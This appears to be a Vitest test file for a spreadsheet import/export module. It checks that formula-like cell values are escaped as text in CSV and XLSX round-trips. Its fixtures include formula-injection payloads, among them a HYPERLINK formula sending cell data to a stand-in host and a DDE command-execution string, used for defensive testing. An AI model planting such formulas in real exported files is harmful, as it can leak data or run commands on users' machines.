import { describe, expect, it } from 'vitest';
import { readTable, tableOf } from '../../../../src/main/engine/commands/import-table.ts';
import { csvText } from '../../../../src/shared/table/csv.ts';
import { readXlsx } from '../../../../src/shared/table/read-xlsx.ts';
import { writeXlsx } from '../../../../src/shared/table/write-xlsx.ts';

const NAMES = [
  '=1+1',
  '+48123',
  '-5',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://evil.example/?"&A1;"look")',
  "=cmd|' /C calc'!A0",
  '==1',
  '="0590"',
  '="',
  '=","',
  '=";"\t',
  '=1\n+1',
  '\uff1d1+1',
  ' =1+1',
  '\t=1+1',
  '-',
  '=',
].map((name) => ({ name }));

describe('a name that a spreadsheet would compute', () => {
  it.each(NAMES)('is text in a CSV and comes back unchanged: $name', ({ name }) => {
    for (const separator of [';', ',', '\t']) {
      const file = csvText(
        [
          ['sku', 'title'],
          [{ digits: name }, name],
        ],
        separator,
      );
      const line = file.slice(file.indexOf('\r\n') + 2).trimEnd();
      expect(line).toMatch(/^"=""/);
      expect(readTable(file).rows.map(({ cells }) => cells)).toEqual([[name, name]]);
    }
  });

  it.each(NAMES)('is text in a spreadsheet and comes back unchanged: $name', ({ name }) => {
    const rows = readXlsx(writeXlsx('Stragan', [['sku'], [name]]));
    expect(rows).toEqual([['sku'], [name]]);
    expect(tableOf(rows).rows.map(({ cells }) => cells)).toEqual([[name.trim()]]);
  });
});

it('leaves ordinary cells as they are', () => {
  expect(csvText([['a=b', '1-2', { digits: '0590' }, 'x@y']], ';')).toBe('\ufeffa=b;1-2;="0590";x@y\r\n');
});
